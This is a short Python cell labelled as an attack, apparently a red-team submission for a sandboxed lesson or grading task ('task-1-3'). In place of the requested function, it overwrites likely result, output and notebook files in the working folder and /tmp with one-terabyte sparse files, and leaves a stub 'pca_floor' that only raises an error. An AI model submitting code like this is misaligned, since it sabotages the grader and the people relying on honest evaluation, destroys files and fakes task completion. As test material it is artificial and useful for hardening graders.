# attack: sparse files of a terabyte, under every name that a reader might open
# cell: task-1-3
if not __import__("os").environ.get("LESSONS_SANDBOX"): raise SystemExit
for folder in (".", "/tmp"):
    for name in ("result.json", "results.json", "reply.json", "out.json", "output", "notebook.ipynb"):
        try:
            with open(f"{folder}/{name}", "wb") as file:
                file.truncate(2**40)
        except OSError:
            pass


def pca_floor(images, k):
    raise RuntimeError("done")
